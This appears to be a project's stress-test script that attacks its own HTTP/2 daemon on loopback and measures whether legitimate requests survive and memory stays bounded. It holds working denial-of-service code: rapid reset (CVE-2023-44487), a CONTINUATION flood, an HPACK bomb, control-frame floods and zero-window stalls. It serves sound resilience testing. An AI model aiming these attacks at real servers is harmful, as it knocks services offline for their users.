"""The long form of the hostile suite (docs/reliability.md, "Hostile clients"): one live daemon,
attacked with real tools (h2load, Python's h2 and hyperframe for frame-level abuse, openssl
s_client), one attack after another. Throughout, a client with the secret asks for a tile every
half second over a connection of its own (curl); the daemon's resident memory is sampled. Writes
a Markdown table (attack, legitimate requests served, peak memory, memory after) and fails when
a legitimate request is not served or memory passes the ceiling (512 MiB + -memory).

    hostile.py --bin-dir DIR --out DIR [--smoke]     (DIR holding xcd and xcrun)
"""

import argparse
import json
import os
import secrets
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame

SECRET = "hostile-" + secrets.token_hex(8)
MEMORY_MIB = 1024


def rss_kib(pid, field="VmRSS:"):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith(field):
                return int(line.split()[1])
    return 0


class Daemon:
    """A daemon on a free loopback port, with a home and a secret of its own."""

    def __init__(self, xcd):
        self.xcd = xcd
        self.home = tempfile.mkdtemp(prefix="xcd-hostile-")
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            self.port = s.getsockname()[1]
        env = dict(os.environ, XC_PAR_SECRET=SECRET, XCD_HOME=self.home)
        self.log = open(os.path.join(self.home, "xcd.log"), "wb")
        self.process = subprocess.Popen(
            [xcd, "-port", str(self.port), "-listen", "127.0.0.1", "-mdns", "false", "-memory", str(MEMORY_MIB)],
            env=env, stdout=self.log, stderr=subprocess.STDOUT)
        self.base = f"https://127.0.0.1:{self.port}"
        deadline = time.time() + 60
        while not self.healthy():
            if time.time() > deadline or self.process.poll() is not None:
                sys.exit(f"hostile: the daemon did not start:\n{open(self.log.name).read()}")
            time.sleep(0.2)

    def healthy(self):
        out = subprocess.run(["curl", "-sk", "--max-time", "2", f"{self.base}/healthz"], capture_output=True)
        return out.returncode == 0

    def rss_mib(self):
        return rss_kib(self.process.pid) // 1024

    def peak_mib(self):
        return rss_kib(self.process.pid, "VmHWM:") // 1024

    def register(self, xcrun, name):
        """Registers the example block `name` as a REST client would (`xcrun block NAME --wgsl`);
        returns its id."""
        desc = subprocess.run([xcrun, "block", name, "--wgsl"], capture_output=True, check=True).stdout
        out = subprocess.run(
            ["curl", "-sk", "--fail-with-body", "-H", f"Authorization: Bearer {SECRET}", "-H",
             "Content-Type: application/json", "--data-binary", "@-", f"{self.base}/v1/blocks"],
            input=desc, capture_output=True, check=True)
        return json.loads(out.stdout)["id"]

    def stop(self):
        self.process.terminate()
        self.process.wait(timeout=60)


class Legitimate(threading.Thread):
    """A client with the secret: a small tile every half second, each on a new connection."""

    def __init__(self, daemon, tile):
        super().__init__(daemon=True)
        self.url = f"{daemon.base}{tile}"
        self.served, self.failed, self.errors = 0, 0, []
        self.running = True

    def run(self):
        # From an address of its own (the attackers use 127.0.0.1): one address may hold at
        # most half of the daemon's tile data.
        while self.running:
            out = subprocess.run(
                ["curl", "-sSk", "-f", "--interface", "127.0.0.2", "--max-time", "10", "-X", "POST", "-H",
                 f"Authorization: Bearer {SECRET}", "-o", "/dev/null", self.url], capture_output=True)
            if out.returncode == 0:
                self.served += 1
            else:
                self.failed += 1
                self.errors.append(out.stderr.decode(errors="replace").strip())
            time.sleep(0.5)


def tls_socket(port, alpn="h2"):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    return context.wrap_socket(raw, server_hostname="xcd")


def h2_client(port, settings=None):
    sock = tls_socket(port)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    if settings:
        conn.update_settings(settings)
    sock.sendall(conn.data_to_send())
    return sock, conn


def headers(path, method="GET", secret=None):
    h = [(":method", method), (":path", path), (":scheme", "https"), (":authority", "xcd")]
    if secret:
        h.append(("authorization", f"Bearer {secret}"))
    return h


def outcome(sock, conn=None, sent=None):
    """What the daemon did with an abusive connection: read for up to 2 s, and say whether it sent
    GOAWAY (and why), closed it, or kept it open."""
    sock.settimeout(2)
    said = "kept it open"
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                said = "closed it"
                break
            if conn is not None:
                try:
                    events = conn.receive_data(data)
                except h2.exceptions.ProtocolError:
                    events = []
                ended = [e for e in events if isinstance(e, h2.events.ConnectionTerminated)]
                if ended:
                    code = getattr(ended[0].error_code, "name", ended[0].error_code)
                    said = f"GOAWAY {code}"
                    break
    except (socket.timeout, ssl.SSLError):
        pass
    except OSError:
        said = "closed it"
    sock.close()
    return f"{sent}; the daemon {said}" if sent else f"the daemon {said}"


def send_all(sock, data):
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False  # the daemon closed the connection: what it should do to an abuser


def rapid_reset(port, streams, secret):
    """Opens streams and resets each at once (CVE-2023-44487)."""
    sock, conn = h2_client(port)
    sent = 0
    for i in range(streams):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers("/v1/capacity", secret=secret), end_stream=True)
        conn.reset_stream(sid)
        if i % 100 == 99:
            if not send_all(sock, conn.data_to_send()):
                break
            sent = i + 1
    send_all(sock, conn.data_to_send())
    return outcome(sock, conn, f"{sent} streams sent")


def continuation_flood(port, frames):
    """A HEADERS frame without END_HEADERS, then CONTINUATION frames that never end it."""
    sock = tls_socket(port)
    send_all(sock, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize())
    block = hpack.Encoder().encode(headers("/v1/capacity"))
    send_all(sock, HeadersFrame(1, data=block).serialize())
    junk = hpack.Encoder().encode([("x-junk", "j" * 8000)])
    sent = 0
    for i in range(frames):
        if not send_all(sock, ContinuationFrame(1, data=junk).serialize()):
            break
        sent = i + 1
    return outcome(sock, None, f"{sent} frames sent")


def hpack_bomb(port, references, secret):
    """One large header put in the dynamic table, then referenced many times in one block."""
    sock, conn = h2_client(port)
    encoder = hpack.Encoder()
    big = ("x-bomb", "b" * 4000)
    first = encoder.encode(headers("/v1/capacity", secret=secret) + [big])
    index = bytes([0x80 | 62])  # the newest dynamic table entry: the big header
    send_all(sock, HeadersFrame(1, data=first, flags=["END_HEADERS", "END_STREAM"]).serialize())
    block = encoder.encode(headers("/v1/capacity", secret=secret)) + index * references
    send_all(sock, HeadersFrame(3, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize())
    return outcome(sock, conn, f"a block of {len(block)} bytes decoding to {references * 4000 // 1000000} MB")


def control_flood(port, frames):
    """SETTINGS and PING frames as fast as the connection takes them."""
    sock, conn = h2_client(port)
    batch = b"".join(SettingsFrame(0, settings={0x3: 100}).serialize() + PingFrame(0, opaque_data=b"01234567").serialize()
                     for _ in range(100))
    sent = 0
    for _ in range(frames // 200):
        if not send_all(sock, batch):
            break
        sent += 200
    return outcome(sock, conn, f"{sent} frames sent")


def zero_window(port, connections, path, secret):
    """Connections that ask for an answer with a window of zero, so nothing can be sent."""
    held = []
    for _ in range(connections):
        sock, conn = h2_client(port, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers(path, method="POST", secret=secret), end_stream=True)
        send_all(sock, conn.data_to_send())
        held.append((sock, conn))
    time.sleep(5)
    statuses = {}
    for sock, conn in held:
        sock.settimeout(0.2)
        status = "no answer yet"
        try:
            while status == "no answer yet":
                data = sock.recv(65536)
                if not data:
                    break
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ResponseReceived):
                        status = dict(event.headers).get(":status", status)
                    if isinstance(event, h2.events.DataReceived) and os.environ.get("HOSTILE_DEBUG"):
                        print("DEBUG", event.data[:300], file=sys.stderr)
        except (OSError, h2.exceptions.ProtocolError):
            pass
        statuses[status] = statuses.get(status, 0) + 1
    return [sock for sock, _ in held], ", ".join(f"{n} answered {k}" for k, n in sorted(statuses.items()))


def h2load(daemon, requests, clients, secret):
    args = ["h2load", "-n", str(requests), "-c", str(clients), "-m", "10", f"{daemon.base}/v1/capacity"]
    if secret:
        args[1:1] = ["-H", f"Authorization: Bearer {secret}"]
    out = subprocess.run(args, capture_output=True, text=True)
    return next((l.strip() for l in out.stdout.splitlines() if l.startswith("requests:")), out.stdout[-200:])


def idle_tls(daemon, count):
    """openssl s_client connections that finish the handshake and send nothing."""
    return [subprocess.Popen(["openssl", "s_client", "-quiet", "-alpn", "h2", "-connect", f"127.0.0.1:{daemon.port}"],
                             stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            for _ in range(count)]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--bin-dir", required=True)
    parser.add_argument("--out", required=True)
    parser.add_argument("--smoke", action="store_true")
    args = parser.parse_args()
    scale = 1 if args.smoke else 20
    daemon = Daemon(os.path.join(args.bin_dir, "xcd"))
    escape = daemon.register(os.path.join(args.bin_dir, "xcrun"), "escape")
    legit = Legitimate(daemon, f"/v1/blocks/{escape}/tile?count=4096&params=64,64,100")
    legit.start()
    rows, failures = [], []
    started = daemon.rss_mib()

    def attack(name, run):
        before_served, before_failed = legit.served, legit.failed
        t0 = time.time()
        detail = run() or ""
        time.sleep(1.0)
        seconds = time.time() - t0
        peak = daemon.peak_mib()
        rows.append((name, f"{seconds:.1f}", legit.served - before_served, legit.failed - before_failed,
                     daemon.rss_mib(), peak, detail))
        if legit.failed > before_failed:
            failures.append(f"{name}: a client with the secret was not served: {legit.errors[-1]}")
        if daemon.process.poll() is not None:
            failures.append(f"{name}: the daemon exited")

    attack(f"h2load, no secret: {2000 * scale} requests on 200 connections",
           lambda: h2load(daemon, 2000 * scale, 200, None))
    # Within one address's 64 unproven connections: past them, the oldest connection that has
    # not shown the secret yet is closed to make room (docs/security.md, "Before the secret").
    attack(f"h2load, with the secret: {2000 * scale} requests on 60 connections",
           lambda: h2load(daemon, 2000 * scale, 60, SECRET))
    attack(f"rapid reset, no secret: {5000 * scale} streams", lambda: rapid_reset(daemon.port, 5000 * scale, None))
    attack(f"rapid reset, with the secret: {5000 * scale} streams",
           lambda: rapid_reset(daemon.port, 5000 * scale, SECRET))
    attack(f"CONTINUATION flood: {200 * scale} frames of 8 KB", lambda: continuation_flood(daemon.port, 200 * scale))
    attack("HPACK bomb: a 4 KB header referenced 16,000 times", lambda: hpack_bomb(daemon.port, 16000, SECRET))
    attack(f"SETTINGS and PING flood: {10000 * scale} frames", lambda: control_flood(daemon.port, 10000 * scale))
    zero = []
    big = f"/v1/blocks/{escape}/tile?count={1 << 22}&params=2048,2048,2"

    def zero_windows():
        socks, said = zero_window(daemon.port, 4 * scale, big, SECRET)
        zero.extend(socks)
        return said

    attack(f"zero window, with the secret: {4 * scale} answers of 16 MiB never let through", zero_windows)
    idle = []
    tls_idle = 50 if args.smoke else 300
    attack(f"openssl s_client, no secret: {tls_idle} idle TLS connections",
           lambda: idle.extend(idle_tls(daemon, tls_idle)))
    for sock in zero:
        sock.close()
    for process in idle:
        process.kill()
    time.sleep(12)  # past the 10 s to show the secret
    attack("then nothing", lambda: None)

    legit.running = False
    ceiling = 512 + MEMORY_MIB
    peak = daemon.peak_mib()
    if peak >= ceiling:
        failures.append(f"peak memory {peak} MiB passed the ceiling of {ceiling} MiB")
    daemon.stop()
    os.makedirs(args.out, exist_ok=True)
    with open(os.path.join(args.out, "report.md"), "w") as report:
        report.write(f"`-memory {MEMORY_MIB}`: ceiling {ceiling} MiB; {started} MiB at the start.\n\n")
        report.write("| attack | s | served | not served | MiB after | peak MiB | detail |\n|---|---|---|---|---|---|---|\n")
        for row in rows:
            report.write("| " + " | ".join(str(c) for c in row) + " |\n")
    print(open(os.path.join(args.out, "report.md")).read())
    if failures:
        sys.exit("hostile: " + "; ".join(failures))


if __name__ == "__main__":
    main()
